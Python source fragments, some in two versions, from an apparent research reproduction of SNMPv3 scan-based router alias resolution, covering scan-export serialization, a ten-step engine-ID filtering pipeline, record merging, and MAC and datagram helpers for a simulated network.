        self._path = Path(path)
        self._label = label
        self._ip_version = ip_version
        self._started_at = started_at
        #: Set these any time before :meth:`close`.
        self.finished_at = 0.0
        self.targets_probed = 0
        self.records = 0
        self._seen: set = set()
        self._handle = self._path.open("w", encoding="utf-8")
        try:
            provisional = self._header()
            self._header_width = len(provisional) + _HEADER_SLACK
            self._handle.write(provisional.ljust(self._header_width) + "\n")
        except BaseException:
            # A constructor that raises never hands the caller an object
            # to close; release the handle before propagating.
            self._handle.close()
            raise

    def _header(self) -> str:
        return _scan_header(
            label=self._label,
            ip_version=self._ip_version,
            started_at=self._started_at,
            finished_at=self.finished_at,
            targets_probed=self.targets_probed,
            responsive=self.records,
        )

    def write(self, observation: ScanObservation) -> None:
        """Append one observation (duplicate addresses keep the first)."""
        if observation.address in self._seen:
            return
        self._seen.add(observation.address)
        self._handle.write(_observation_row(observation) + "\n")
        self.records += 1

    def write_batch(self, batch: Iterable[ScanObservation]) -> int:
        """Append a batch in one write; returns how many rows were written.

        Duplicate-address semantics match :meth:`write` (first one wins),
        but the serialized rows are joined and handed to the file object
        once per batch instead of once per observation — the dominant
        ingest edge when a campaign streams millions of rows.
        """
        seen = self._seen
        add = seen.add
        rows: list[str] = []
        append = rows.append
        for observation in batch:
            address = observation.address
            if address in seen:
                continue
            add(address)
            append(_observation_row(observation))
        if rows:
            self._handle.write("\n".join(rows) + "\n")
            self.records += len(rows)
        return len(rows)

    @property
    def closed(self) -> bool:
        """True once the final header has been written and the file shut."""
        return self._handle.closed

    def close(self) -> int:
        """Finalize the header in place; returns the record count.

        Idempotent: the header is rewritten and the file closed exactly
        once, no matter how many times ``close`` runs — a ``with`` block
        whose body already called :meth:`close` stays a no-op on exit.
        """
        if self.closed:
            return self.records
        try:
            final = self._header()
            if len(final) > self._header_width:  # pragma: no cover - 48B slack
                raise ValueError("final scan header outgrew its reserved space")
            self._handle.seek(0)
            self._handle.write(final.ljust(self._header_width))
        finally:
            # The handle must shut even when finalization fails — an
            # unwritable header should not leak the descriptor too.
            self._handle.close()
        return self.records

    def __enter__(self) -> "ScanJsonlWriter":
        if self.closed:
            raise ValueError("cannot re-enter a closed ScanJsonlWriter")
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()


def read_scan_header(path: "str | Path") -> dict:
    """Read and validate just the header line of a scan export."""
    path = Path(path)
    with path.open("r", encoding="utf-8") as handle:
        header = json.loads(handle.readline())
    if header.get("format") != "snmpv3-scan":
        raise ValueError(f"{path} is not an snmpv3-scan export")
    if header.get("version") != FORMAT_VERSION:
        raise ValueError(f"unsupported export version: {header.get('version')}")
    return header


def iter_scan_jsonl(path: "str | Path") -> "Iterator[ScanObservation]":
    """Stream observations from an export one at a time.

    Validates the header, then yields one :class:`ScanObservation` per
    line without ever holding the file in memory — feed this directly to
    :meth:`repro.pipeline.FilterPipeline.run_stream`.
    """
    path = Path(path)
    with path.open("r", encoding="utf-8") as handle:
        header = json.loads(handle.readline())
        if header.get("format") != "snmpv3-scan":
            raise ValueError(f"{path} is not an snmpv3-scan export")
        if header.get("version") != FORMAT_VERSION:
            raise ValueError(f"unsupported export version: {header.get('version')}")
        for line in handle:
            if line.strip():
                yield _row_observation(json.loads(line))


def load_scan_jsonl(path: "str | Path") -> ScanResult:
    """Reconstruct a :class:`ScanResult` from an exported file."""
    header = read_scan_header(path)
    scan = ScanResult(
        label=header["label"],
        ip_version=header["ip_version"],
        started_at=header["started_at"],
        finished_at=header["finished_at"],
        targets_probed=header["targets_probed"],
    )
    for observation in iter_scan_jsonl(path):
        scan.add(observation)
    return scan


# -- alias sets ----------------------------------------------------------------------


def export_alias_sets_jsonl(sets: AliasSets, path: "str | Path") -> int:
    """One JSON line per alias set: ``{"id": n, "ips": [...]}``."""
    path = Path(path)
    with path.open("w", encoding="utf-8") as handle:
        header = {
            "format": "alias-sets",
            "version": FORMAT_VERSION,
            "technique": sets.technique,
            "sets": sets.count,
        }
        handle.write(json.dumps(header) + "\n")
        ordered = sorted(sets.sets, key=lambda g: min(int(a) for a in g))
        for index, group in enumerate(ordered):
            handle.write(
                json.dumps({"id": index, "ips": sorted(map(str, group))}) + "\n"
            )
    return sets.count


def load_alias_sets_jsonl(path: "str | Path") -> AliasSets:
    """Reconstruct :class:`AliasSets` from an exported file."""
    path = Path(path)
    with path.open("r", encoding="utf-8") as handle:
        header = json.loads(handle.readline())
        if header.get("format") != "alias-sets":
            raise ValueError(f"{path} is not an alias-sets export")
        groups = []
        for line in handle:
            row = json.loads(line)
            groups.append(frozenset(ipaddress.ip_address(ip) for ip in row["ips"]))
    return AliasSets(sets=groups, technique=header.get("technique", ""))


def export_alias_sets_csv(sets: AliasSets, path: "str | Path") -> int:
    """Two-column CSV (``set_id,ip``) — the flat join-friendly form."""
    path = Path(path)
    rows = 0
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["set_id", "ip"])
        ordered = sorted(sets.sets, key=lambda g: min(int(a) for a in g))
        for index, group in enumerate(ordered):
            for ip in sorted(map(str, group)):
                writer.writerow([index, ip])
                rows += 1
    return rows


# -- vendor census --------------------------------------------------------------------------


def export_vendor_census_csv(
    rows: "Iterable[tuple[str, int]]", path: "str | Path"
) -> int:
    """``vendor,count`` CSV for the Figure 11/12 bar data."""
    path = Path(path)
    written = 0
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["vendor", "devices"])
        for vendor, count in rows:
            writer.writerow([vendor, count])
            written += 1
    return written
