"""Serializers and loaders for measurement artifacts.

Formats are deliberately boring: JSON Lines for record streams (engine
IDs hex-encoded), CSV for tabular summaries.  Loaders reconstruct the
full Python objects, and every exporter/loader pair round-trips — see
``tests/io``.
"""

from __future__ import annotations

import csv
import ipaddress
import json
from pathlib import Path
from typing import Iterable

from repro.alias.sets import AliasSets
from repro.scanner.records import ScanObservation, ScanResult
from repro.snmp.engine_id import EngineId

#: Schema version stamped into every JSONL header line.
FORMAT_VERSION = 1


# -- scan observations ----------------------------------------------------------


def export_scan_jsonl(scan: ScanResult, path: "str | Path") -> int:
    """Write one JSON line per responsive IP; returns the record count.

    The first line is a header object describing the scan (label, family,
    schedule, probe counts) so the file is self-describing.
    """
    path = Path(path)
    records = 0
    with path.open("w", encoding="utf-8") as handle:
        header = {
            "format": "snmpv3-scan",
            "version": FORMAT_VERSION,
            "label": scan.label,
            "ip_version": scan.ip_version,
            "started_at": scan.started_at,
            "finished_at": scan.finished_at,
            "targets_probed": scan.targets_probed,
            "responsive": scan.responsive_count,
        }
        handle.write(json.dumps(header) + "\n")
        for obs in sorted(scan.observations.values(), key=lambda o: int(o.address)):
            row = {
                "ip": str(obs.address),
                "recv_time": obs.recv_time,
                "engine_id": obs.engine_id.raw.hex() if obs.engine_id else None,
                "engine_boots": obs.engine_boots,
                "engine_time": obs.engine_time,
                "responses": obs.response_count,
                "wire_bytes": obs.wire_bytes,
            }
            handle.write(json.dumps(row) + "\n")
            records += 1
    return records


def load_scan_jsonl(path: "str | Path") -> ScanResult:
    """Reconstruct a :class:`ScanResult` from an exported file."""
    path = Path(path)
    with path.open("r", encoding="utf-8") as handle:
        header = json.loads(handle.readline())
        if header.get("format") != "snmpv3-scan":
            raise ValueError(f"{path} is not an snmpv3-scan export")
        if header.get("version") != FORMAT_VERSION:
            raise ValueError(f"unsupported export version: {header.get('version')}")
        scan = ScanResult(
            label=header["label"],
            ip_version=header["ip_version"],
            started_at=header["started_at"],
            finished_at=header["finished_at"],
            targets_probed=header["targets_probed"],
        )
        for line in handle:
            row = json.loads(line)
            engine_hex = row["engine_id"]
            scan.add(
                ScanObservation(
                    address=ipaddress.ip_address(row["ip"]),
                    recv_time=row["recv_time"],
                    engine_id=(
                        EngineId(bytes.fromhex(engine_hex))
                        if engine_hex is not None
                        else None
                    ),
                    engine_boots=row["engine_boots"],
                    engine_time=row["engine_time"],
                    response_count=row["responses"],
                    wire_bytes=row["wire_bytes"],
                )
            )
    return scan


# -- alias sets ----------------------------------------------------------------------


def export_alias_sets_jsonl(sets: AliasSets, path: "str | Path") -> int:
    """One JSON line per alias set: ``{"id": n, "ips": [...]}``."""
    path = Path(path)
    with path.open("w", encoding="utf-8") as handle:
        header = {
            "format": "alias-sets",
            "version": FORMAT_VERSION,
            "technique": sets.technique,
            "sets": sets.count,
        }
        handle.write(json.dumps(header) + "\n")
        ordered = sorted(sets.sets, key=lambda g: min(int(a) for a in g))
        for index, group in enumerate(ordered):
            handle.write(
                json.dumps({"id": index, "ips": sorted(map(str, group))}) + "\n"
            )
    return sets.count


def load_alias_sets_jsonl(path: "str | Path") -> AliasSets:
    """Reconstruct :class:`AliasSets` from an exported file."""
    path = Path(path)
    with path.open("r", encoding="utf-8") as handle:
        header = json.loads(handle.readline())
        if header.get("format") != "alias-sets":
            raise ValueError(f"{path} is not an alias-sets export")
        groups = []
        for line in handle:
            row = json.loads(line)
            groups.append(frozenset(ipaddress.ip_address(ip) for ip in row["ips"]))
    return AliasSets(sets=groups, technique=header.get("technique", ""))


def export_alias_sets_csv(sets: AliasSets, path: "str | Path") -> int:
    """Two-column CSV (``set_id,ip``) — the flat join-friendly form."""
    path = Path(path)
    rows = 0
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["set_id", "ip"])
        ordered = sorted(sets.sets, key=lambda g: min(int(a) for a in g))
        for index, group in enumerate(ordered):
            for ip in sorted(map(str, group)):
                writer.writerow([index, ip])
                rows += 1
    return rows


# -- vendor census --------------------------------------------------------------------------


def export_vendor_census_csv(
    rows: "Iterable[tuple[str, int]]", path: "str | Path"
) -> int:
    """``vendor,count`` CSV for the Figure 11/12 bar data."""
    path = Path(path)
    written = 0
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["vendor", "devices"])
        for vendor, count in rows:
            writer.writerow([vendor, count])
            written += 1
    return written
