"""The §4.4 response-filtering pipeline.

Raw scan pairs go in; per-IP records with *valid* engine IDs and engine
times come out.  The ten filters run in the paper's order, each reporting
how many records it removed (the numbers the paper quotes per step), and
each individually disableable for the ablation benchmarks.
"""

from repro.pipeline.records import (
    MergedObservation,
    MergeStream,
    ValidRecord,
    merge_scan_pair,
    merge_scan_stream,
)
from repro.pipeline.filters import FilterPipeline, FilterStats, PipelineResult

__all__ = [
    "FilterPipeline",
    "FilterStats",
    "MergeStream",
    "MergedObservation",
    "PipelineResult",
    "ValidRecord",
    "merge_scan_pair",
    "merge_scan_stream",
]
