"""The ten filtering steps of §4.4, in the paper's order.

Each filter is a named step that consumes a list of records and reports
how many it removed.  The full pipeline is:

1.  **missing-engine-id** — unparseable replies and empty engine IDs;
2.  **inconsistent-engine-id** — the two scans returned different engine
    IDs for the same address (address churn between scans);
3.  **short-engine-id** — fewer than four bytes (cannot be unique; the
    four-byte threshold keeps IPv4-based engine IDs);
4.  **promiscuous-engine-id** — the same engine-ID *data* value appears
    under multiple vendors' enterprise numbers (factory defaults);
5.  **unroutable-ipv4-engine-id** — IPv4-format engine IDs embedding
    reserved/private/multicast addresses;
6.  **unregistered-mac** — MAC-format engine IDs whose OUI is not in the
    IEEE registry;
7.  **zero-time-or-boots** — engine time or engine boots of zero in
    either scan;
8.  **future-engine-time** — engine time exceeding the receive clock
    (a last-reboot before the epoch / in the future);
9.  **inconsistent-boots** — engine boots differ between the scans (the
    device rebooted; its reset engine time cannot be trusted);
10. **inconsistent-reboot-time** — derived last reboot times differ by
    more than the threshold (default 10 s, the knee of Figure 8).

``FilterPipeline(skip={...})`` disables individual steps for the
filter-ablation benchmark.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Iterable

from repro.compat import keyword_only_compat
from repro.net.addresses import is_routable_ipv4
from repro.oui.registry import OuiRegistry, default_registry
from repro.pipeline.records import (
    MergedObservation,
    ValidRecord,
    merge_scan_pair,
    merge_scan_stream,
)
from repro.scanner.records import ScanObservation, ScanResult
from repro.snmp.engine_id import EngineIdFormat

#: Minimum engine-ID length in bytes (keeps IPv4-based engine IDs).
MIN_ENGINE_ID_BYTES = 4

#: Default last-reboot consistency threshold in seconds (Figure 8's knee).
DEFAULT_REBOOT_THRESHOLD = 10.0

FILTER_NAMES = (
    "missing-engine-id",
    "inconsistent-engine-id",
    "short-engine-id",
    "promiscuous-engine-id",
    "unroutable-ipv4-engine-id",
    "unregistered-mac",
    "zero-time-or-boots",
    "future-engine-time",
    "inconsistent-boots",
    "inconsistent-reboot-time",
)

#: Steps that only need a valid engine ID (Table 1's "valid engine ID"
#: column is counted after these).
_ENGINE_ID_STEPS = FILTER_NAMES[:6]


@dataclass
class FilterStats:
    """Removal counts per step plus the headline intermediate counts."""

    input_first: int = 0
    input_second: int = 0
    non_overlapping: int = 0
    removed: dict[str, int] = field(default_factory=dict)
    valid_engine_id_count: int = 0
    valid_count: int = 0

    def removed_total(self) -> int:
        return sum(self.removed.values())


@dataclass
class PipelineResult:
    """Filtered records plus the bookkeeping for Table 1."""

    valid: list[ValidRecord]
    stats: FilterStats


@keyword_only_compat("registry", "reboot_threshold", "skip")
class FilterPipeline:
    """Configurable §4.4 pipeline.

    Arguments are keyword-only; the positional ``FilterPipeline(registry,
    reboot_threshold, skip)`` form is deprecated but still accepted.
    """

    def __init__(
        self,
        *,
        registry: "OuiRegistry | None" = None,
        reboot_threshold: float = DEFAULT_REBOOT_THRESHOLD,
        skip: "frozenset[str] | set[str]" = frozenset(),
    ) -> None:
        unknown = set(skip) - set(FILTER_NAMES)
        if unknown:
            raise ValueError(f"unknown filter names in skip: {sorted(unknown)}")
        self.registry = registry or default_registry()
        self.reboot_threshold = reboot_threshold
        self.skip = frozenset(skip)

    # -- public ------------------------------------------------------------

    def run(self, first: ScanResult, second: ScanResult) -> PipelineResult:
        """Merge a scan pair and run all (non-skipped) filters."""
        stats = FilterStats(
            input_first=first.responsive_count, input_second=second.responsive_count
        )
        records, stats.non_overlapping = merge_scan_pair(first, second)
        return self._run_filters(records, stats)

    def run_stream(
        self,
        first: Iterable[ScanObservation],
        second: Iterable[ScanObservation],
    ) -> PipelineResult:
        """Run the pipeline over observation *iterables*.

        Equivalent to :meth:`run` on materialized scans but bounded in
        memory: the join buffers only the first scan's address index,
        the per-record filters (nine of the ten) stream, and only
        records that survive the streaming steps are buffered for the
        one cross-record filter (``promiscuous-engine-id``) and the
        consistency steps.  Accepts a :class:`ScanResult`, a JSONL
        reader (:func:`repro.io.iter_scan_jsonl`), or a flattened
        executor batch stream on either side.
        """
        merge = merge_scan_stream(first, second)
        stats = FilterStats()
        result = self._run_filters(merge, stats)
        stats.input_first = merge.input_first
        stats.input_second = merge.input_second
        stats.non_overlapping = merge.non_overlapping
        return result

    # -- filter core --------------------------------------------------------

    def _run_filters(
        self, records: Iterable[MergedObservation], stats: FilterStats
    ) -> PipelineResult:
        """Apply the ten steps to a merged-record stream.

        Steps 1–3 stream record-by-record while the promiscuity map
        (engine-ID data value → enterprise numbers, the only cross-record
        state) accumulates over *every* input record, as the paper
        computes it over the full merged population.  Survivors are then
        ordered by address and steps 4–10 applied in sequence.
        """
        counts = dict.fromkeys(FILTER_NAMES, 0)
        streaming_steps = [
            name for name in FILTER_NAMES[:3] if name not in self.skip
        ]
        predicates = self._predicates()
        enterprises_by_data: dict[bytes, set[int]] = {}
        survivors: list[MergedObservation] = []
        for record in records:
            engine_id = record.engine_id
            if engine_id is not None and engine_id.enterprise is not None:
                data = engine_id.data
                if data:
                    enterprises_by_data.setdefault(data, set()).add(
                        engine_id.enterprise
                    )
            for name in streaming_steps:
                if not predicates[name](record):
                    counts[name] += 1
                    break
            else:
                survivors.append(record)
        survivors.sort(key=lambda m: int(m.address))
        promiscuous = frozenset(
            data for data, ents in enterprises_by_data.items() if len(ents) > 1
        )
        predicates["promiscuous-engine-id"] = (
            lambda r: self._data_key(r) not in promiscuous
        )
        remaining = survivors
        for name in FILTER_NAMES[3:]:
            if name not in self.skip:
                remaining, counts[name] = _apply(predicates[name], remaining)
            if name == _ENGINE_ID_STEPS[-1]:
                # Table 1's "valid engine ID" checkpoint, taken after the
                # last engine-ID step whether or not it ran.
                stats.valid_engine_id_count = len(remaining)
        stats.removed = counts
        stats.valid_count = len(remaining)
        valid = [
            ValidRecord(
                address=r.address,
                engine_id=r.first.engine_id,
                engine_boots=r.first.engine_boots,
                last_reboot_first=r.first.last_reboot_time,
                last_reboot_second=r.second.last_reboot_time,
                recv_time_first=r.first.recv_time,
                recv_time_second=r.second.recv_time,
                engine_time_first=r.first.engine_time,
                engine_time_second=r.second.engine_time,
            )
            for r in remaining
        ]
        return PipelineResult(valid=valid, stats=stats)

    def _predicates(self) -> "dict[str, Callable[[MergedObservation], bool]]":
        """Per-record keep-predicates; the promiscuity one is bound later."""
        return {
            "missing-engine-id": self._keep_present_engine_id,
            "inconsistent-engine-id": lambda r: r.consistent_engine_id,
            "short-engine-id": lambda r: r.engine_id is not None
            and len(r.engine_id.raw) >= MIN_ENGINE_ID_BYTES,
            "promiscuous-engine-id": lambda r: True,
            "unroutable-ipv4-engine-id": self._keep_routable_ipv4,
            "unregistered-mac": self._keep_registered_mac,
            "zero-time-or-boots": self._keep_nonzero_time,
            "future-engine-time": self._keep_past_engine_time,
            "inconsistent-boots": lambda r: r.first.engine_boots == r.second.engine_boots,
            "inconsistent-reboot-time": lambda r: r.reboot_time_delta
            <= self.reboot_threshold,
        }

    # -- predicates ------------------------------------------------------------

    @staticmethod
    def _keep_present_engine_id(record: MergedObservation) -> bool:
        return (
            record.first.engine_id is not None
            and record.second.engine_id is not None
            and len(record.first.engine_id.raw) > 0
            and len(record.second.engine_id.raw) > 0
        )

    @staticmethod
    def _keep_routable_ipv4(record: MergedObservation) -> bool:
        engine_id = record.engine_id
        if engine_id is None or engine_id.format is not EngineIdFormat.IPV4:
            return True
        return is_routable_ipv4(engine_id.ip)

    def _keep_registered_mac(self, record: MergedObservation) -> bool:
        engine_id = record.engine_id
        if engine_id is None or engine_id.format is not EngineIdFormat.MAC:
            return True
        return self.registry.is_registered(engine_id.mac)

    @staticmethod
    def _keep_nonzero_time(record: MergedObservation) -> bool:
        return all(
            obs.engine_time > 0 and obs.engine_boots > 0
            for obs in (record.first, record.second)
        )

    @staticmethod
    def _keep_past_engine_time(record: MergedObservation) -> bool:
        return (
            record.first.engine_time <= record.first.recv_time
            and record.second.engine_time <= record.second.recv_time
        )

    # -- promiscuity ---------------------------------------------------------------

    @staticmethod
    def _data_key(record: MergedObservation) -> "bytes | None":
        if record.engine_id is None:
            return None
        return record.engine_id.data


def _apply(
    predicate: Callable[[MergedObservation], bool], records: list[MergedObservation]
) -> tuple[list[MergedObservation], int]:
    kept = [r for r in records if predicate(r)]
    return kept, len(records) - len(kept)
