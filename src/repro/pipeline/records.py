"""Record types flowing through the filtering pipeline."""

from __future__ import annotations

from dataclasses import dataclass

from repro.net.addresses import IPAddress
from repro.scanner.records import ScanObservation, ScanResult
from repro.snmp.engine_id import EngineId


@dataclass(frozen=True)
class MergedObservation:
    """One IP observed in both scans of a pair."""

    address: IPAddress
    first: ScanObservation
    second: ScanObservation

    @property
    def version(self) -> int:
        return self.address.version

    @property
    def engine_id(self) -> "EngineId | None":
        """The (scan-1) engine ID; filters guarantee consistency downstream."""
        return self.first.engine_id

    @property
    def consistent_engine_id(self) -> bool:
        if self.first.engine_id is None or self.second.engine_id is None:
            return False
        return self.first.engine_id.raw == self.second.engine_id.raw

    @property
    def reboot_time_delta(self) -> float:
        """|Δ last reboot| between the two scans — Figure 8's quantity."""
        return abs(self.first.last_reboot_time - self.second.last_reboot_time)


@dataclass(frozen=True)
class ValidRecord:
    """A fully filtered record: the pipeline's output row.

    Exposes the six matching fields the alias-resolution stage groups on:
    engine ID, engine boots and last reboot time, for both scans.
    """

    address: IPAddress
    engine_id: EngineId
    engine_boots: int
    last_reboot_first: float
    last_reboot_second: float
    recv_time_first: float
    recv_time_second: float
    engine_time_first: int
    engine_time_second: int

    @property
    def version(self) -> int:
        return self.address.version

    @property
    def last_reboot_time(self) -> float:
        """Canonical last reboot time (first scan's derivation)."""
        return self.last_reboot_first


def merge_scan_pair(first: ScanResult, second: ScanResult) -> tuple[list[MergedObservation], int]:
    """Join two scans on address.

    Returns the merged records plus the count of non-overlapping IPs
    (responsive in exactly one scan), which the paper reports separately
    from the inconsistency filter.
    """
    merged: list[MergedObservation] = []
    overlap = set(first.observations) & set(second.observations)
    for address in overlap:
        merged.append(
            MergedObservation(
                address=address,
                first=first.observations[address],
                second=second.observations[address],
            )
        )
    non_overlap = (
        len(first.observations) + len(second.observations) - 2 * len(overlap)
    )
    merged.sort(key=lambda m: int(m.address))
    return merged, non_overlap
