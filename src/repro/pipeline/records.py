"""Record types flowing through the filtering pipeline."""

from __future__ import annotations

from dataclasses import dataclass
from typing import Iterable, Iterator

from repro.net.addresses import IPAddress
from repro.scanner.records import ScanObservation, ScanResult
from repro.snmp.engine_id import EngineId

__all__ = [
    "MergeStream",
    "MergedObservation",
    "ValidRecord",
    "merge_scan_pair",
    "merge_scan_stream",
]


@dataclass(frozen=True)
class MergedObservation:
    """One IP observed in both scans of a pair."""

    address: IPAddress
    first: ScanObservation
    second: ScanObservation

    @property
    def version(self) -> int:
        return self.address.version

    @property
    def engine_id(self) -> "EngineId | None":
        """The (scan-1) engine ID; filters guarantee consistency downstream."""
        return self.first.engine_id

    @property
    def consistent_engine_id(self) -> bool:
        if self.first.engine_id is None or self.second.engine_id is None:
            return False
        return self.first.engine_id.raw == self.second.engine_id.raw

    @property
    def reboot_time_delta(self) -> float:
        """|Δ last reboot| between the two scans — Figure 8's quantity."""
        return abs(self.first.last_reboot_time - self.second.last_reboot_time)


@dataclass(frozen=True)
class ValidRecord:
    """A fully filtered record: the pipeline's output row.

    Exposes the six matching fields the alias-resolution stage groups on:
    engine ID, engine boots and last reboot time, for both scans.
    """

    address: IPAddress
    engine_id: EngineId
    engine_boots: int
    last_reboot_first: float
    last_reboot_second: float
    recv_time_first: float
    recv_time_second: float
    engine_time_first: int
    engine_time_second: int

    @property
    def version(self) -> int:
        return self.address.version

    @property
    def last_reboot_time(self) -> float:
        """Canonical last reboot time (first scan's derivation)."""
        return self.last_reboot_first


def merge_scan_pair(first: ScanResult, second: ScanResult) -> tuple[list[MergedObservation], int]:
    """Join two scans on address.

    Returns the merged records plus the count of non-overlapping IPs
    (responsive in exactly one scan), which the paper reports separately
    from the inconsistency filter.
    """
    merged: list[MergedObservation] = []
    overlap = set(first.observations) & set(second.observations)
    for address in overlap:
        merged.append(
            MergedObservation(
                address=address,
                first=first.observations[address],
                second=second.observations[address],
            )
        )
    non_overlap = (
        len(first.observations) + len(second.observations) - 2 * len(overlap)
    )
    merged.sort(key=lambda m: int(m.address))
    return merged, non_overlap


class MergeStream:
    """Streaming address join of a scan pair.

    Buffers only the *first* scan (as an address-keyed dict — the minimum
    any join needs) and streams the second, yielding one
    :class:`MergedObservation` per overlapping IP.  ``input_first``,
    ``input_second`` and ``non_overlapping`` are valid once the stream is
    exhausted.  Duplicate addresses in either input keep their first
    observation, matching :meth:`ScanResult.add`.
    """

    def __init__(
        self,
        first: Iterable[ScanObservation],
        second: Iterable[ScanObservation],
    ) -> None:
        self._first_by_address: dict[IPAddress, ScanObservation] = {}
        for observation in first:
            self._first_by_address.setdefault(observation.address, observation)
        self._second = second
        self.input_first = len(self._first_by_address)
        self.input_second = 0
        self.non_overlapping = 0
        self._overlap = 0
        self._exhausted = False

    def __iter__(self) -> Iterator[MergedObservation]:
        seen: set[IPAddress] = set()
        for observation in self._second:
            address = observation.address
            if address in seen:
                continue
            seen.add(address)
            self.input_second += 1
            match = self._first_by_address.get(address)
            if match is None:
                continue
            self._overlap += 1
            yield MergedObservation(address=address, first=match, second=observation)
        self.non_overlapping = (
            self.input_first + self.input_second - 2 * self._overlap
        )
        self._exhausted = True


def merge_scan_stream(
    first: Iterable[ScanObservation], second: Iterable[ScanObservation]
) -> MergeStream:
    """Streaming counterpart of :func:`merge_scan_pair`.

    Accepts any observation iterables (a :class:`ScanResult`, a JSONL
    reader, an executor batch stream flattened with
    ``itertools.chain.from_iterable``) and joins them without
    materializing the second scan.
    """
    return MergeStream(first, second)
