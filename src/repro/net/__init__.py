"""Network substrate: addresses, MACs, datagrams and the simulated fabric.

This package provides the building blocks the scanner and the simulated
Internet share:

* :mod:`repro.net.addresses` — IPv4/IPv6 helpers (routability tests,
  deterministic address allocation),
* :mod:`repro.net.mac` — an IEEE MAC address value type with OUI access,
* :mod:`repro.net.packet` — the UDP datagram model exchanged over the
  fabric,
* :mod:`repro.net.transport` — the simulated network fabric itself, which
  binds agents to addresses and delivers datagrams with configurable
  latency, loss and firewall rules,
* :mod:`repro.net.faults` — deterministic fault models (duplication,
  reordering, truncation, corruption, token-bucket rate limiting) the
  fabric injects when a :class:`~repro.net.faults.FaultProfile` is set.
"""

from repro.net.addresses import (
    ip_from_int,
    ip_to_int,
    is_routable_ipv4,
    is_routable_ipv6,
)
from repro.net.faults import FAULT_PROFILES, FaultProfile, RateLimit
from repro.net.mac import MacAddress
from repro.net.packet import Datagram
from repro.net.transport import AccessControlList, NetworkFabric

__all__ = [
    "AccessControlList",
    "Datagram",
    "FAULT_PROFILES",
    "FaultProfile",
    "MacAddress",
    "NetworkFabric",
    "RateLimit",
    "ip_from_int",
    "ip_to_int",
    "is_routable_ipv4",
    "is_routable_ipv6",
]
