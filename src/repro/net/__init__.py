"""Network substrate: addresses, MACs, datagrams and the simulated fabric.

This package provides the building blocks the scanner and the simulated
Internet share:

* :mod:`repro.net.addresses` — IPv4/IPv6 helpers (routability tests,
  deterministic address allocation),
* :mod:`repro.net.mac` — an IEEE MAC address value type with OUI access,
* :mod:`repro.net.packet` — the UDP datagram model exchanged over the
  fabric,
* :mod:`repro.net.transport` — the simulated network fabric itself, which
  binds agents to addresses and delivers datagrams with configurable
  latency, loss and firewall rules.
"""

from repro.net.addresses import (
    ip_from_int,
    ip_to_int,
    is_routable_ipv4,
    is_routable_ipv6,
)
from repro.net.mac import MacAddress
from repro.net.packet import Datagram
from repro.net.transport import AccessControlList, NetworkFabric

__all__ = [
    "AccessControlList",
    "Datagram",
    "MacAddress",
    "NetworkFabric",
    "ip_from_int",
    "ip_to_int",
    "is_routable_ipv4",
    "is_routable_ipv6",
]
