"""IEEE MAC address value type.

Engine IDs in the MAC format embed one of the device's hardware addresses;
the upper three bytes are the Organizationally Unique Identifier (OUI) that
identifies the vendor.  :class:`MacAddress` is the value type used across
the codebase for these six-byte identifiers.
"""

from __future__ import annotations


class MacAddress:
    """A 48-bit IEEE MAC address.

    Immutable and hashable.  The canonical text form is lower-case
    colon-separated hex (``74:8e:f8:31:db:80``).
    """

    __slots__ = ("_value",)

    def __init__(self, value: "int | bytes | str | MacAddress") -> None:
        if isinstance(value, MacAddress):
            self._value: int = value._value
            return
        if isinstance(value, int):
            if not 0 <= value < 1 << 48:
                raise ValueError(f"MAC integer out of range: {value:#x}")
            self._value = value
        elif isinstance(value, (bytes, bytearray)):
            if len(value) != 6:
                raise ValueError(f"MAC must be 6 bytes, got {len(value)}")
            self._value = int.from_bytes(value, "big")
        elif isinstance(value, str):
            cleaned = value.replace(":", "").replace("-", "").replace(".", "")
            if len(cleaned) != 12:
                raise ValueError(f"invalid MAC string: {value!r}")
            self._value = int(cleaned, 16)
        else:
            raise TypeError(f"cannot build MacAddress from {type(value).__name__}")

    @property
    def value(self) -> int:
        """The 48-bit integer value."""
        return self._value

    @property
    def oui(self) -> bytes:
        """The upper three bytes: the IEEE Organizationally Unique Identifier."""
        return self.packed[:3]

    @property
    def nic_specific(self) -> bytes:
        """The lower three bytes, assigned by the vendor per device."""
        return self.packed[3:]

    @property
    def packed(self) -> bytes:
        """The six-byte big-endian representation."""
        return self._value.to_bytes(6, "big")

    @property
    def is_locally_administered(self) -> bool:
        """True when the U/L bit is set (not a globally unique burned-in MAC)."""
        return bool(self.packed[0] & 0x02)

    @property
    def is_multicast(self) -> bool:
        """True when the I/G bit is set."""
        return bool(self.packed[0] & 0x01)

    def successor(self, offset: int = 1) -> "MacAddress":
        """Return the MAC ``offset`` positions later (wrapping inside 48 bits).

        Routers typically number consecutive interfaces with consecutive
        MACs from the same OUI block; the topology generator uses this.
        """
        return MacAddress((self._value + offset) % (1 << 48))

    def __eq__(self, other: object) -> bool:
        if isinstance(other, MacAddress):
            return self._value == other._value
        return NotImplemented

    def __lt__(self, other: "MacAddress") -> bool:
        return self._value < other._value

    def __hash__(self) -> int:
        return hash(self._value)

    def __str__(self) -> str:
        raw = self.packed
        return ":".join(f"{b:02x}" for b in raw)

    def __repr__(self) -> str:
        return f"MacAddress({str(self)!r})"
