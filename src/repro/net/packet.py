"""Datagram model for the simulated fabric.

The scanner and the simulated agents exchange :class:`Datagram` objects:
a UDP 4-tuple plus an opaque payload and the simulated send time.  Sizes
are computed the way the paper reports them (UDP payload length plus the
28-byte IPv4 or 48-byte IPv6+UDP header overhead) so the traffic-volume
numbers of §4.1.1 can be reproduced.
"""

from __future__ import annotations

import ipaddress
from dataclasses import dataclass

from repro.net.addresses import IPAddress

_IPV4_HEADER = 20
_IPV6_HEADER = 40
_UDP_HEADER = 8


@dataclass(frozen=True)
class Datagram:
    """A UDP datagram in flight on the simulated fabric."""

    src: IPAddress
    dst: IPAddress
    sport: int
    dport: int
    payload: bytes
    sent_at: float = 0.0
    ttl: int = 64

    def __post_init__(self) -> None:
        if self.src.version != self.dst.version:
            raise ValueError(
                f"address family mismatch: {self.src} -> {self.dst}"
            )
        for port, name in ((self.sport, "sport"), (self.dport, "dport")):
            if not 0 <= port <= 0xFFFF:
                raise ValueError(f"{name} out of range: {port}")

    @property
